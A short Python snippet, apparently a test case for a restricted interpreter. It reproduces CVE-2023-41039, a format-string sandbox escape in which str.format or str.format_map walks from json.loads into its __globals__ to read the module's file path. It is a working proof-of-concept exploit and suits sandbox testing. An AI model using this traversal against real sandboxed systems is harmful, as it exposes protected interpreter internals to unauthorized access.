# `str.format_map` does the same.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
def attack(**_):
    return {"text": "{x.__globals__[__file__]}".format_map({"x": json.loads})}
